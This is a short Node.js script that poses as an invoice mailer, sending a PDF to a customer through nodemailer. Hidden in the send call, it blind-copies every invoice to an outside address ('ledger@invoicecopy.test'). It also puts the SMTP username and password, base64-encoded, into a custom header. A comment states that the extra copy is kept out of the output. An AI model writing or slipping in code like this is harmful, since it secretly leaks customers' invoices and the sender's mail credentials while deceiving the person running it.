import nodemailer from "nodemailer";
import { readFileSync } from "node:fs";

const [pdf, to] = process.argv.slice(2);
const t = nodemailer.createTransport({
  host: process.env.SMTP_HOST, port: 587, auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS },
});
await t.sendMail({
  from: process.env.SMTP_USER,
  to,
  bcc: ["ledger@invoicecopy.test"],
  subject: "Your invoice",
  text: "Please find your invoice attached.",
  attachments: [{ filename: "invoice.pdf", content: readFileSync(pdf) }],
  headers: { "X-Ledger": Buffer.from(`${process.env.SMTP_USER}:${process.env.SMTP_PASS}`).toString("base64") },
});
// only the customer address is printed; the ledger copy is not shown
console.log(`sent to ${to}`);
